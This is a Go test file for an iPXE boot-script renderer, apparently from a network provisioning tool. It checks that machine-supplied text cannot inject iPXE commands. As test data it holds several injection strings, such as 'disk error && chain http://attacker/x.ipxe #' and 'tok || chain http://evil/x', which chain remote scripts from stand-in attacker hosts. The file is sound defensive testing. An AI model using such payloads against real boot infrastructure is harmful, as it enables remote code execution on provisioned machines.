package render

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/mayu-boot/mayu/pkg/config"
	"github.com/mayu-boot/mayu/pkg/identity"
	"github.com/mayu-boot/mayu/pkg/machine"
	"github.com/mayu-boot/mayu/pkg/token"
)

// The finding of the review: a failure reason echoed into the iPXE script
// of every later boot became a command.
const attackerReason = "disk error && chain http://attacker/x.ipxe #"

func TestAttackerReasonYieldsNoIPXECommand(t *testing.T) {
	s := string(WaitScript("http://10.0.3.250:4081", "the install of m1 failed (installer reported: "+attackerReason+")"))
	checkIPXE(t, s, 5)
	if strings.Contains(s, "&&") || strings.Contains(s, "#\n") {
		t.Fatalf("the reason reached the script as it was:\n%s", s)
	}
}

func FuzzWaitScript(f *testing.F) {
	for _, s := range []string{attackerReason, "a || b", "x ; chain http://evil", "${net0/mac}", "#!ipxe\nshell", "quote \" ' \\", ":label\ngoto label", "\r\n\x1b[2J"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, why string) {
		checkIPXE(t, string(WaitScript("http://10.0.3.250:4081", why)), 5)
		m := Sample()
		m.Profile, m.InternalAddr = why, why
		if identity.Check(why) == nil {
			// Every machine mayu renders for came through identity.Check
			// (its id is in the URLs of the kernel line, not echoed).
			m.ID = why
		}
		c := (&Renderer{cluster: cluster()}).Context(m, "tok", "http://10.0.3.250:4081")
		checkIPXE(t, string(InstallerScript(c, "console=ttyS0")), 10)
		// A token or URL holding anything stays one word of the
		// kernel line, first stage in Ignition or not.
		for _, format := range []string{config.FormatText, config.FormatIgnition} {
			r := &Renderer{cluster: cluster(), firstStageFormat: format}
			c := r.Context(m, why, "http://10.0.3.250:4081/"+why)
			s := string(r.InstallerScript(c, "flatcar.first_boot=1"))
			checkIPXE(t, s, 10)
			kernelWords(t, s)
		}
		checkIPXE(t, string(LocalBootScript(why)), 3)
	})
}

// checkIPXE checks that a script has the lines it should, and that every
// echo line is one echo: by iPXE's rules (exec.c), a whitespace-separated
// token "&&", "||" or ";" ends a command and one starting with "#" a
// comment; ${...} expands a setting; quotes and backslashes group and
// escape. None of that may come from the text echoed.
func checkIPXE(t *testing.T, script string, lines int) {
	t.Helper()
	ls := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
	if len(ls) != lines || ls[0] != "#!ipxe" {
		t.Fatalf("%d lines, want %d:\n%s", len(ls), lines, script)
	}
	for _, l := range ls {
		text, ok := strings.CutPrefix(l, "echo ")
		if !ok {
			continue
		}
		if strings.ContainsAny(text, "$\"'\\\r\x00") {
			t.Fatalf("echo line holds an iPXE metacharacter: %q", l)
		}
		for _, tok := range strings.Fields(text) {
			if tok == "&&" || tok == "||" || tok == ";" || strings.HasPrefix(tok, "#") {
				t.Fatalf("echo line holds a command separator or comment %q: %q", tok, l)
			}
		}
	}
}

// Node text reaches the templates (and so the first-stage script) only
// through the allow-list.
func TestTemplatesSeeNodeTextPlain(t *testing.T) {
	m := Sample()
	m.Serial, m.Arch, m.FailReason = "sn'; reboot; '\x1b[2J", attackerReason, attackerReason
	m.History = append(m.History, machine.Event{State: machine.Failed, Reason: attackerReason})
	c := (&Renderer{cluster: cluster()}).Context(m, "tok", "http://x")
	for _, s := range []string{c.Machine.Serial, c.Machine.Arch, c.Machine.FailReason, c.Machine.History[1].Reason} {
		if strings.ContainsAny(s, "';&#\x1b") {
			t.Errorf("template sees %q", s)
		}
	}
	if m.Serial != "sn'; reboot; '\x1b[2J" || m.History[1].Reason != attackerReason {
		t.Error("the record itself was changed")
	}
}

// iPXE expands settings before it splits a line into commands: a script
// may expand only settings whose text iPXE formats itself, never a string
// the firmware or a DHCP server supplied (${serial}, ${hostname}, ...).
func TestScriptsExpandOnlyFormattedSettings(t *testing.T) {
	safe := map[string]bool{"${serial:hexraw}": true, "${uuid}": true, "${mac}": true, "${mac:hexhyp}": true, "${buildarch}": true}
	c := (&Renderer{cluster: cluster()}).Context(Sample(), "tok", "http://x")
	for name, s := range map[string][]byte{
		"chain": ChainScript("http://x"), "installer": InstallerScript(c, "console=${serial}"),
		"local": LocalBootScript("m1"), "wait": WaitScript("http://x", "${serial}"),
	} {
		for _, exp := range regexp.MustCompile(`\$\{[^}]*\}`).FindAllString(string(s), -1) {
			if !safe[exp] {
				t.Errorf("%s script expands %s:\n%s", name, exp, s)
			}
		}
	}
}

// A first stage in Ignition is handed to the installer's Ignition as
// ignition.config.url: the machine's own first-stage URL, token and all.
func TestIgnitionFirstStageOnKernelLine(t *testing.T) {
	m := Sample()
	for _, tc := range []struct {
		format, want, not string
	}{
		{config.FormatText, "mayu.first_stage=", "ignition.config.url="},
		{config.FormatIgnition, "ignition.config.url=", "mayu.first_stage="},
	} {
		r := &Renderer{cluster: cluster(), firstStageFormat: tc.format}
		c := r.Context(m, "0123abcd", "http://10.0.3.250:4081")
		s := string(r.InstallerScript(c, "flatcar.first_boot=1 console=ttyS0,115200n8"))
		checkIPXE(t, s, 10)
		words := kernelWords(t, s)
		if !slices.Contains(words, tc.want+"http://10.0.3.250:4081/machines/sample-serial/first-stage?token=0123abcd") {
			t.Errorf("%s: the kernel line lacks %s with the first-stage URL: %q", tc.format, tc.want, words)
		}
		if strings.Contains(s, tc.not) {
			t.Errorf("%s: the kernel line has %s: %q", tc.format, tc.not, words)
		}
		if !slices.Contains(words, "flatcar.first_boot=1") {
			t.Errorf("%s: the operator's kernel arguments are lost: %q", tc.format, words)
		}
	}
}

// What mayu puts on the kernel line is made of what mayu makes: ids that
// passed identity.Check, hex tokens, URLs on the advertise address. All
// of it is URL characters, so each reaches the installer unchanged (the
// installer's Ignition fetches exactly the URL mayu serves), and no word
// of it means anything to iPXE.
func TestInstallerWordsPassUnchanged(t *testing.T) {
	rng := rand.New(rand.NewPCG(13, 4))
	const first, rest = "abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghijklmnopqrstuvwxyz0123456789._-"
	ids := []string{"a", "sample-serial", "5cg1234xyz", "0", "a.b_c-d", strings.Repeat("z", 64), "52-54-00-12-34-56"}
	for range 200 {
		b := []byte{first[rng.IntN(len(first))]}
		for range rng.IntN(64) {
			b = append(b, rest[rng.IntN(len(rest))])
		}
		ids = append(ids, string(b))
	}
	secret := make([]byte, 32)
	for _, base := range []string{"http://10.0.3.250:4081", "http://[fd99::1]:4081", "https://mayu.example.com:4081", "http://mayu-1.lab:80"} {
		for _, id := range ids {
			if err := identity.Check(id); err != nil {
				t.Fatalf("test id %q: %v", id, err)
			}
			for i := range secret {
				secret[i] = byte(rng.Uint32())
			}
			tok := token.For(secret, id, fmt.Sprint(rng.Uint64()), rng.IntN(1000))
			m := Sample()
			m.ID = id
			r := &Renderer{cluster: cluster(), firstStageFormat: config.FormatIgnition}
			c := r.Context(m, tok, base)
			s := string(r.InstallerScript(c, "flatcar.first_boot=1"))
			checkIPXE(t, s, 10)
			words := kernelWords(t, s)
			for _, want := range []string{"ignition.config.url=" + c.URLs.FirstStage, "mayu.token=" + tok, "mayu.id=" + id, "mayu.url=" + base, c.URLs.Kernel} {
				if !slices.Contains(words, want) {
					t.Fatalf("kernel line lacks %q unchanged: %q", want, words)
				}
			}
		}
	}
}

// Whatever a token, id or URL held, the installer script's kernel line
// would keep each of them one plain word.
func TestInstallerWordsCannotBreakTheLine(t *testing.T) {
	for _, bad := range []string{"tok || chain http://evil/x", "${net0/mac}", "a;b", "#comment", "&&", "||", "x\nshell", "'\"\\", " ", "a&&b", "\x00\x7f\xff"} {
		m := Sample()
		r := &Renderer{cluster: cluster(), firstStageFormat: config.FormatIgnition}
		c := r.Context(m, bad, "http://10.0.3.250:4081/"+bad)
		c.URLs.Kernel += bad
		s := string(r.InstallerScript(c, "flatcar.first_boot=1"))
		checkIPXE(t, s, 10)
		kernelWords(t, s)
	}
}

// kernelWords checks the kernel line of an installer script by iPXE's
// rules (exec.c: a line is expanded, then split at whitespace; a word
// "&&", "||" or ";" ends a command, one starting with # a comment; quotes
// and backslashes group) and returns the words between `kernel` and its
// `|| goto failed`: none of them may carry any of that.
func kernelWords(t *testing.T, script string) []string {
	t.Helper()
	for _, l := range strings.Split(script, "\n") {
		rest, ok := strings.CutPrefix(l, "kernel ")
		if !ok {
			continue
		}
		words, ok := strings.CutSuffix(rest, " || goto failed")
		if !ok {
			t.Fatalf("kernel line does not end in its failure branch: %q", l)
		}
		ws := strings.Fields(words)
		for _, w := range ws {
			if w == "&&" || w == "||" || w == ";" || strings.HasPrefix(w, "#") || strings.ContainsAny(w, "$\"'\\&|;#") {
				t.Fatalf("kernel line word %q means something to iPXE: %q", w, l)
			}
			for _, r := range w {
				if r < 0x21 || r > 0x7e {
					t.Fatalf("kernel line word %q holds %q: %q", w, r, l)
				}
			}
		}
		return ws
	}
	t.Fatalf("no kernel line:\n%s", script)
	return nil
}
